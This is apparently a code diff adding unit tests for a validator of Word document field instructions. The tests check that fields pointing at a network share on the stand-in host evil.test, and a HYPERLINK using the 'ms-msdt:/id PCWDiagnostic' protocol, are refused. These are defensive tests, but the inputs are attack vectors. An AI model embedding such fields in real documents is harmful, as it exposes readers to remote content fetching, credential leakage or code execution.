@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { checkField } from './field-instructions.js';
+import { fieldActions } from './field-kinds.js';
 
 describe('checkField', () => {
   it('lets a picture come from the reader’s own disk (Word’s “link to file”), nothing else from there', () => {
@@ -29,5 +30,27 @@ describe('checkField', () => {
     expect(() => checkField(String.raw`INCLUDEPICTURE "c:\\p.gif"`, true)).toThrow(
       /another field computes/,
     );
+  });
+});
+
+describe('checkField: every field that acts outside the document (field-kinds.ts)', () => {
+  it.each(Object.entries(fieldActions))(
+    '%s on a share is refused, whatever the field does',
+    (kind, { action }) => {
+      const instructions =
+        action === 'queries'
+          ? String.raw`${kind} \d "\\\\evil.test\\share\\x.mdb"`
+          : String.raw`${kind} "\\\\evil.test\\share\\x"`;
+      expect(() => checkField(instructions, false)).toThrow(new RegExp(kind));
+    },
+  );
+
+  it('lets a file beside the document be fetched or linked, and a bookmark be linked', () => {
+    for (const kind of ['INCLUDETEXT', 'INCLUDEPICTURE', 'RD', 'HYPERLINK']) {
+      expect(() => checkField(`${kind} "anexo.docx"`, false), kind).not.toThrow();
+    }
+    expect(() => checkField(String.raw`HYPERLINK \l "_Toc12" \o "Índice"`, false)).not.toThrow();
+    expect(() => checkField('HYPERLINK "https://verdalia.example/"', false)).not.toThrow();
+    expect(() => checkField('HYPERLINK "ms-msdt:/id PCWDiagnostic"', false)).toThrow(/HYPERLINK/);
   });
 });
